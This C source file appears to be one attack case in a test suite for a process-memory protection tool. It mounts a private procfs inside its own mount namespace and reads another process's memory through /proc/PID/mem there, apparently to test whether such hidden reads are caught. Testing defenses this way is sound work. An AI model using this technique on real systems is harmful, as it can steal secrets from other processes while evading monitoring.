/*
 * Mounts a procfs that nobody else sees, in a mount namespace of its own, and
 * reads PID/mem through it, WAIT_MS after the mount.
 */
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>

int main(int argc, char **argv)
{
	struct attack a = parse_attack(argc, argv, "othermount PID ADDRESS LENGTH [WAIT_MS]");
	char directory[] = "/tmp/rimon-test-othermount-XXXXXX";
	char path[128];
	long long at = now_ns();
	int fd, failed = 1;
	ssize_t n;

	if (!mkdtemp(directory))
		return report_failure(at, "mkdtemp");
	if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0) {
		report_failure(at, "unshare");
		goto out;
	}
	if (mount("proc", directory, "proc", 0, NULL) < 0) {
		report_failure(at, "mount");
		goto out;
	}
	hold_ms(argc > 4 ? atol(argv[4]) : 0);
	snprintf(path, sizeof(path), "%s/%d/mem", directory, a.pid);
	at = now_ns();
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		report_failure(at, "open");
		goto out_unmount;
	}
	n = pread(fd, a.bytes, a.length, a.address);
	if (n < 0) {
		report_failure(at, "pread");
	} else {
		report_bytes(at, a.bytes, n);
		failed = 0;
	}
	close(fd);
out_unmount:
	umount2(directory, MNT_DETACH);
out:
	rmdir(directory);
	return failed;
}
